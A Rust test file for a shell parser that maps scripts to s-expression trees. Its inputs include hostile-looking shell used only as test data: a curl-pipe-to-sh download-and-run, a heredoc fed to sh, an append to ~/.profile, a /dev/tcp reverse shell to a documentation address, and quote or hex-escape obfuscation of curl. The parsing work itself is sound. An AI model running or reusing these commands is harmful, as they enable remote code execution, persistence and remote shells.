//! Shell as a neutral tree.

use tares_lang::{Interner, Language, parse, sexpr};

fn sexpr_of(language: Language, source: &str) -> String {
    let mut interner = Interner::default();
    let tree = parse(language, source, &mut interner);
    sexpr(&tree, &interner)
}

fn check(source: &str, expected: &str) {
    assert_eq!(
        sexpr_of(Language::Shell, source).trim_end(),
        expected,
        "{source}"
    );
}

#[test]
fn commands_are_calls_and_pipes_hand_on() {
    check(
        "curl -s \"http://$h/x\" | sh",
        "(yield (call \"sh\" <=(call \"curl\" \"-s\" (template \"http://\" $h \"/x\"))))",
    );
    check(
        "a=('x' y); b=${a[1]}",
        "(= $a (list \"x\" \"y\"))\n(= $b (index $a 1))",
    );
    check("cmd {a,b}", "(yield (call \"cmd\" \"a\" \"b\"))");
}

#[test]
fn redirections_are_writes_and_silence() {
    check(
        "echo hi >> ~/.profile",
        "(call \">>\" \"~/.profile\" (call \"echo\" \"hi\"))",
    );
    check("x 2>/dev/null", "(try\n  (yield (call \"x\"))\n  (except))");
    check("x || true", "(try\n  (yield (call \"x\"))\n  (except))");
    check(
        "cat <<'E' | sh\n$x\nE\n",
        "(yield (call \"sh\" <=(call \"cat\" <=\"$x\\n\")))",
    );
}

#[test]
fn tests_are_comparisons() {
    check(
        "if [ \"$(date +%s)\" -gt 17 ] && [[ -z $CI ]]; then x; fi",
        "(if (and (> (call \"$((\" (call \"date\" \"+%s\")) 17) (== $CI \"\"))\n  (yield (call \"x\")))",
    );
}

#[test]
fn words_are_put_together() {
    check(
        "c\"ur\"l x",
        "(yield (call (call \"$quoted\" \"curl\") \"x\"))",
    );
    check(
        "$'\\x63url' x",
        "(yield (call (call \"$'\" \"curl\") \"x\"))",
    );
    check("x=${y:-z}", "(= $x (or $y \"z\"))");
    check(
        "x=${y//a/b}",
        "(= $x (call \"$cut\" $y \"//\" \"a\" \"b\"))",
    );
}

#[test]
fn a_line_ends_a_command_even_where_the_grammar_goes_on() {
    check(
        "a | b\nc -i >& /dev/tcp/192.0.2.1/80 0>&1\n",
        "(yield (call \"b\" <=(call \"a\")))\n(call \">\" \"/dev/tcp/192.0.2.1/80\" (call \"c\" \"-i\"))",
    );
}

#[test]
fn broken_functions_do_not_hide_the_others() {
    let source = "a() {\n  echo )) ((\n}\nb() {\n  curl x\n}\n";
    let tree = sexpr_of(Language::Shell, source);
    assert!(tree.contains("(call \"curl\" \"x\")"), "{tree}");
}
